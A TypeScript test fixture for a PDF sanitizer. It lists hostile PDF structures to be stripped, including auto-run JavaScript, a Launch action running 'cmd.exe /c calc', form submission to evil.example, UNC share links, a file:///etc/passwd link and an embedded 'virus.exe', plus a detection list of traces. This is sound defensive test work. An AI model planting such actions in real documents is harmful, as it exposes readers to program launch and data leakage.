// What an attached PDF may carry besides its pages. In each, the page itself is to be kept.
import { deflateSync } from 'node:zlib';
import { type RawPdf, rawStream } from './rawPdf.ts';

const script = '<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>';
const launch = '<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>';
const rect = '/Rect [10 10 90 40]';
const annotation = (entries: string): RawPdf => ({
  page: '/Annots [10 0 R]',
  objects: [`<< /Type /Annot ${rect} ${entries} >>`],
});
const link = (action: string) => annotation(`/Subtype /Link /A ${action}`);
const filespec = '<< /Type /Filespec /F (virus.exe) /UF (virus.exe) /EF << /F 11 0 R >> >>';
const embedded = rawStream('MZ-virus', '/Type /EmbeddedFile');

/** Every action in a place of its own, and each once more hidden in the resources of the page. */
export const hostilePdfs: Readonly<Record<string, RawPdf>> = {
  'a script when it opens': { catalog: `/OpenAction ${script}` },
  'a script when it opens, elsewhere': { catalog: '/OpenAction 10 0 R', objects: [script] },
  'a program when it opens': { catalog: `/OpenAction ${launch}` },
  'an address when it opens': { catalog: '/OpenAction << /S /URI /URI (https://evil.example/) >>' },
  'a script in a stream': {
    catalog: '/OpenAction << /S /JavaScript /JS 10 0 R >>',
    objects: [rawStream('app.launchURL("https://evil.example")')],
  },
  'a chain of actions': {
    catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [${script} ${launch}] >>`,
  },
  'scripts by name': {
    catalog: `/Names << /JavaScript << /Names [(a) 10 0 R] >> >>`,
    objects: [script],
  },
  'scripts by name, in a tree': {
    catalog: '/Names << /JavaScript << /Kids [10 0 R] >> >>',
    objects: [`<< /Limits [(a) (a)] /Names [(a) ${script}] >>`],
  },
  'names with escapes': { catalog: '/Open#41ction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>' },
  'additional actions of the document': { catalog: `/AA << /WC ${script} /DS ${script} >>` },
  'additional actions of the page': { page: `/AA << /O ${script} /C ${launch} >>` },
  'additional actions of a field': {
    catalog: '/AcroForm << /Fields [10 0 R] /NeedAppearances true >>',
    ...annotation(`/Subtype /Widget /FT /Tx /T (a) /AA << /K ${script} /F ${script} >>`),
  },
  'a form that sends itself': link(
    '<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> /Flags 4 >>',
  ),
  'a form that imports': link('<< /S /ImportData /F (\\\\\\\\evil\\\\share\\\\x.fdf) >>'),
  'a form that resets': link('<< /S /ResetForm >>'),
  'a form in XML': {
    catalog: '/AcroForm << /XFA [(template) 10 0 R] /Fields [] >>',
    objects: [rawStream('<template><script>app.alert(1)</script></template>')],
  },
  'a link to a program': link(launch),
  'a link to a script': link(script),
  'a link to a script address': link('<< /S /URI /URI (javascript:alert\\(1\\)) >>'),
  'a link to a file': link('<< /S /URI /URI (file:///etc/passwd) >>'),
  'a link to a share': link('<< /S /URI /URI (\\\\\\\\evil.example\\\\x) >>'),
  'a link to data': link('<< /S /URI /URI (data:text/html,<script>1</script>) >>'),
  'a link to another document': link('<< /S /GoToR /F (\\\\\\\\evil.example\\\\a.pdf) /D [0 /Fit] >>'),
  'a link to an embedded document': link('<< /S /GoToE /T << /R /C /N (a.pdf) >> >>'),
  'a link with a second action': link(`<< /S /URI /URI (https://school.example/) /Next ${script} >>`),
  'a link that shows and hides': link('<< /S /Hide /T (a) /H false >>'),
  'a link by a named action': link('<< /S /Named /N /SaveAs >>'),
  'a link that plays': link('<< /S /Rendition /OP 0 /JS (app.alert\\(1\\)) >>'),
  'a link that switches layers': link('<< /S /SetOCGState /State [/ON 10 0 R] >>'),
  'an embedded file': {
    catalog: '/Names << /EmbeddedFiles << /Names [(virus.exe) 10 0 R] >> >>',
    objects: [filespec, embedded],
  },
  'an associated file': { catalog: '/AF [10 0 R]', objects: [filespec, embedded] },
  'a file on the page': {
    page: '/Annots [12 0 R] /AF [10 0 R]',
    objects: [filespec, embedded, `<< /Type /Annot /Subtype /FileAttachment ${rect} /FS 10 0 R >>`],
  },
  'a collection of files': {
    catalog:
      '/Collection << /Type /Collection /D (virus.exe) >> /Names << /EmbeddedFiles << /Names [(v) 10 0 R] >> >>',
    objects: [filespec, embedded],
  },
  'rich media': {
    page: '/Annots [12 0 R]',
    objects: [
      filespec,
      embedded,
      `<< /Type /Annot /Subtype /RichMedia ${rect} /RichMediaContent << /Assets << /Names [(a.swf) 10 0 R] >> >> /RichMediaSettings << /Activation << /Condition /PO >> >> >>`,
    ],
  },
  'a movie': annotation('/Subtype /Movie /Movie << /F (\\\\\\\\evil.example\\\\a.avi) >> /A true'),
  'a sound': {
    page: '/Annots [11 0 R]',
    objects: [
      rawStream('x', '/Type /Sound /R 8000'),
      `<< /Type /Annot /Subtype /Sound ${rect} /Sound 10 0 R >>`,
    ],
  },
  'a screen that plays without a click': annotation(`/Subtype /Screen /AA << /PO ${script} >> /A ${script}`),
  'a model with a script': {
    page: '/Annots [11 0 R]',
    objects: [
      rawStream('x', '/Type /3D /Subtype /U3D /OnInstantiate 10 0 R'),
      `<< /Type /Annot /Subtype /3D ${rect} /3DD 10 0 R >>`,
    ],
  },
  'a note with a script': annotation(`/Subtype /Text /Contents (note) /A ${script} /AA << /E ${script} >>`),
  'a bookmark with a script': {
    catalog: '/Outlines 10 0 R',
    objects: [
      '<< /Type /Outlines /First 11 0 R /Last 11 0 R /Count 1 >>',
      `<< /Title (x) /Parent 10 0 R /A ${script} >>`,
    ],
  },
  'a picture from elsewhere': {
    page: '/Resources << /Font << /F1 5 0 R >> /XObject << /Im 10 0 R >> >>',
    objects: [
      rawStream(
        '',
        '/Type /XObject /Subtype /Image /Width 1 /Height 1 /F (\\\\\\\\evil.example\\\\a.jpg) /FFilter /DCTDecode',
      ),
    ],
  },
  'a page from elsewhere': {
    page: '/Resources << /Font << /F1 5 0 R >> /XObject << /Fm 10 0 R >> >>',
    objects: [
      rawStream(
        '',
        '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (https://evil.example/a.pdf) /Page 0 >>',
      ),
    ],
  },
  'a PostScript program': {
    page: '/Resources << /Font << /F1 5 0 R >> /XObject << /Ps 10 0 R >> >>',
    objects: [rawStream('(%pipe%calc) (w) file', '/Type /XObject /Subtype /PS')],
  },
  'actions hidden in resources': {
    page: '/Resources << /Font << /F1 5 0 R >> /Properties << /P1 10 0 R /P2 11 0 R >> >>',
    objects: [
      `<< /Type /OCG /Name (x) /JS (app.alert\\(1\\)) /Private << /Deep [${script} ${launch}] >> >>`,
      `<< /Held 12 0 R >>`,
      filespec.replace('11 0 R', '13 0 R'),
      embedded,
    ],
  },
  'metadata and private data': {
    catalog: '/Metadata 10 0 R /PieceInfo << /App << /Private (secret-author) >> >>',
    objects: [rawStream('<x:xmpmeta>secret-author</x:xmpmeta>', '/Type /Metadata /Subtype /XML')],
  },
  'objects that nothing refers to': {
    objects: [script, launch, filespec.replace('11 0 R', '13 0 R'), embedded],
  },
  'an object stream': {
    catalog: '/OpenAction 50 0 R',
    objects: [objectStream(50, script)],
  },
};

function objectStream(number: number, object: string): string {
  const head = `${number} 0 `;
  const packed = deflateSync(head + object).toString('latin1');
  return rawStream(packed, `/Type /ObjStm /N 1 /First ${head.length} /Filter /FlateDecode`);
}

/** Found nowhere in a cleaned file, neither in its names nor in its texts. */
export const traces = [
  '/AA',
  '/AcroForm',
  '/AF',
  '/Collection',
  '/EF',
  '/EmbeddedFile',
  '/FFilter',
  '/FileAttachment',
  '/Filespec',
  '/GoToE',
  '/GoToR',
  '/Hide',
  '/ImportData',
  '/JavaScript',
  '/JS',
  '/Launch',
  '/Metadata',
  '/Movie',
  '/Named',
  '/Names',
  '/OpenAction',
  '/Outlines',
  '/PieceInfo',
  '/PS',
  '/Ref ',
  '/Rendition',
  '/ResetForm',
  '/RichMedia',
  '/Screen',
  '/SetOCGState',
  '/Sound',
  '/SubmitForm',
  '/Widget',
  '/XFA',
  '/3D',
  'alert',
  'calc',
  'data:',
  'evil',
  'javascript:',
  'passwd',
  'secret-author',
  'virus',
] as const;
